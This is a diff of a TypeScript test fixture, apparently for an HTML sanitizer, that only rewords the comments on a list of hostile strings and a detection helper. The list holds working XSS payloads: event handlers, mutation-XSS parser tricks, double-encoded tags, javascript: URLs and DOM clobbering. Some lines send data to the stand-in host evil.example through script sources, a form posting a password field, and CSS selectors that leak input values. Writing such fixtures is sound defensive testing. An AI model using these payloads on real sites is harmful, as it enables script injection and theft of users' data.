@@ -1,13 +1,12 @@
-/** A host that nobody may be led to or asked for anything. */
+/** A host that the app must never link to or call. */
 const evil = 'https://evil.example';
 
 /**
- * Ways into a page by a text: scripts and handlers, mutation of what was cleaned, other namespaces, entities decoded
- * once too often, addresses, styles, and names that take the place of the page's own. Each sets `window.__xss`, or
- * names evil.example, where it works.
+ * Texts that try to attack the page: scripts, mutation after cleaning, namespaces, double decoding, addresses,
+ * styles, clobbered names. A successful one sets `window.__xss` or names evil.example.
  */
 export const hostileTexts: readonly string[] = [
-  // Handlers that need nobody's hand.
+  // Handlers that run without the user.
   '<img src=x onerror=window.__xss=1>',
   '<img/src/onerror=window.__xss=1>',
   '<svg/onload=window.__xss=1>',
@@ -28,7 +27,7 @@ export const hostileTexts: readonly string[] = [
   '<script\u0000>window.__xss=1</script>',
   '<script type=module src="data:text/javascript,window.__xss=1"></script>',
   `<script src=//evil.example/x.js></script><link rel=modulepreload href=${evil}/x.js>`,
-  // Parsers that disagree (mXSS).
+  // Differences between parsers (mXSS).
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
   '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
   '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__xss=1 src>">',
@@ -48,7 +47,7 @@ export const hostileTexts: readonly string[] = [
   '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1></svg>#x"></svg>',
   `<svg><image href="${evil}/a.png"/><feImage href="${evil}/b.png"/></svg>`,
   '<math href="javascript:window.__xss=1"><maction actiontype="statusline#x" xlink:href="javascript:window.__xss=1">lien</maction></math>',
-  // Decoded once too often.
+  // Double decoding.
   '&lt;img src=x onerror=window.__xss=1&gt;',
   '&amp;lt;img src=x onerror=window.__xss=1&amp;gt;',
   '&#60;script&#62;window.__xss=1&#60;/script&#62;',
@@ -70,11 +69,11 @@ export const hostileTexts: readonly string[] = [
   `<form action="${evil}" id=f><input name=password></form><button form=f formaction="javascript:window.__xss=1">ok</button>`,
   `<base href="${evil}/"><a href="/x">lien</a>`,
   `<meta http-equiv=refresh content="0;url=${evil}"><meta http-equiv=Set-Cookie content="a=b">`,
-  // Styles that ask, cover or measure.
+  // Styles that call, cover or measure.
   `<style>input[value^=a]{background:url(${evil}/a)}@import "${evil}/x.css";</style>`,
   `<p style="background:url(${evil}/a);position:fixed;inset:0;z-index:9999">mots</p>`,
   `<link rel=stylesheet href=${evil}/x.css><link rel=prefetch href=${evil}/y><link rel=dns-prefetch href=//evil.example>`,
-  // Names that stand in for the page's own.
+  // Names that clobber the page’s own.
   '<form id=document><input name=cookie><input name=body></form><a id=location name=href>lien</a>',
   '<img name=getElementById><img id=root><p id=app class="shell dialog" slot=x is=x>mots</p>',
   '<a id=__xss></a><form name=__xss></form><iframe name=__xss></iframe>',
@@ -94,7 +93,7 @@ const taken = [
   'cookie',
 ];
 
-/** What of hostileTexts got hold of something under `root`, one line each; their words alone are harmless. */
+/** Effects of hostileTexts under `root`, one line each. Their words alone are harmless. */
 export function harmIn(root: ParentNode): string[] {
   const found: string[] = [];
   for (const element of root.querySelectorAll('*')) {
